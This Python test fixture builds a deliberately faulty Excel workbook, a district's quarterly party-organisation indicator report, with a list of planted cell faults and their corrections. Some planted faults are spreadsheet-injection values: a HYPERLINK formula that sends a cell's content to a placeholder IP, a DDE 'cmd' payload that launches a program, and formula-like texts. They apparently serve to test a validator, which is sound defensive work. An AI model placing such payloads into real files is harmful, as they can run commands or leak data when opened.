"""A department's workbook as clerks make them: a title over merged cells, widths, sums, texts that would run."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName

FILE = "departments/2024Q3/农业农村局.xlsx"
TITLE = "示例区2024年第三季度党组织组织力指标报送表"
HEADER = ["序号", "组织代码", "组织名称", "所在镇街", "村集体经济收入（万元）", "“四清”合同清理率", "“四清”资源清收率",
          "“四清”债务化解率", "“四清”带动增收（万元）", "结对帮扶", "核实状态", "备注"]  # fmt: skip
LINK = '=HYPERLINK("http://192.0.2.1/?"&A4,"点这里")'
WIDTHS = {"B": 22.0, "C": 30.0, "E": 18.5}
Row = list[Any]

FAULTS = {"E4", "E5", "F6", "F7", "B8", "B9", "C10", "J11", "K12", "K13"}
"""Cells of ROWS with a fault, each of another kind."""
ROWS: list[Row] = [
    [1, "032000200002", "凤园村党总支", "梅南镇", "见附件", 0.95, 0.95, 0.95, 3, None, "已核实", "words for a number"],
    [2, "032000300007", "永林村党支部", "西竹镇", LINK, 0.95, 0.95, 0.95, 3, None, "已核实", "a text that would fetch"],
    [3, "032000100013", "南林村党支部", "梅兰街道", 20, -0.5, 0.95, 0.95, 3, None, "已核实", "below zero"],
    [4, "032000200014", "东泉村党总支", "梅南镇", 20, "=19/2", 0.95, 0.95, 3, None, "已核实", "9.5 without per cent"],
    [5, "032000200999", "没有村党支部", "梅南镇", 20, 0.95, 0.95, 0.95, 3, None, "已核实", "unknown code"],
    [6, "032000100085", "东店村党支部", "梅兰街道", 20, 0.95, 0.95, 0.95, 3, None, "已核实", "ended in August"],
    [7, None, "柳园村党支部", None, 20, 0.95, 0.95, 0.95, 3, None, "已核实", "two are called so"],
    [8, "032000200018", "梅林村党总支", "梅南镇", 20, 0.95, 0.95, 0.95, 3, 1, "已核实", "not for villages"],
    [9, "032000400020", "松山村党支部", "西福街道", 20, 0.95, 0.95, 0.95, 3, None, "核实了", "no such status"],
    [10, "032000100021", "柏庄村党支部", "梅兰街道", 20, 0.95, 0.95, 0.95, 3, None, None, "no status"],
    [11, "032000200022", "=1+1", "梅南镇", 20, 0.95, 0.95, 0.95, 3, None, "已核实", "+cmd|' /C calc'!A0"],
]
SUMS: Row = ["合计", None, None, None, "=SUM(E4:E14)", 11, 11, 11, 30, None, None, "@SUM(1)"]
MENDED: dict[str, Any] = {
    "E4": 18, "E5": 19, "F6": 0.5, "F7": "95%", "B8": "032000200026", "B9": "032000400024", "B10": "032000200066",
    "J11": None, "K12": "已核实", "K13": "已核实",
}  # fmt: skip
"""What a clerk writes into the cells of a receipt to mend all of FAULTS."""


def department_book(rows: Sequence[Row] = ROWS) -> bytes:
    """The workbook of 农业农村局: formulas with the values that a spreadsheet had computed, =… as plain text where the
    row has it among the texts."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "第三季度"
    sheet.append([TITLE])
    sheet.append(["填报单位：农业农村局"])
    sheet.append(HEADER)
    for row in (*rows, SUMS):
        sheet.append(row)
    for place in ("C14", "E5", "L14", "L15"):
        sheet[place].data_type = "s"
    sheet["A1"].font = Font(bold=True, size=16)
    sheet["C6"].fill = PatternFill("solid", fgColor="FF99CCFF")
    sheet.merge_cells("A1:L1")
    sheet.freeze_panes = "C4"
    sheet.row_dimensions[1].height = 33
    for column, width in WIDTHS.items():
        sheet.column_dimensions[column].width = width
    sheet["A2"].hyperlink = "http://192.0.2.1/"
    book.defined_names["run"] = DefinedName("run", attr_text="第三季度!$A$1")
    note = book.create_sheet("填报说明")
    note.append(["请按模板填写"])
    content = io.BytesIO()
    book.save(content)
    return _with_values(content.getvalue(), {"F7": "9.5", "E15": "230"})


def _with_values(data: bytes, values: dict[str, str]) -> bytes:
    """The xlsx file with a cached value in cells that hold a formula."""
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name).decode() if name.endswith("sheet1.xml") else old.read(name)
            if isinstance(content, str):
                for place, value in values.items():
                    start = content.index("<v", content.index(f'r="{place}"'))
                    end = content.index("</c>", start)
                    content = f"{content[:start]}<v>{value}</v>{content[end:]}"
            new.writestr(name, content)
    return result.getvalue()
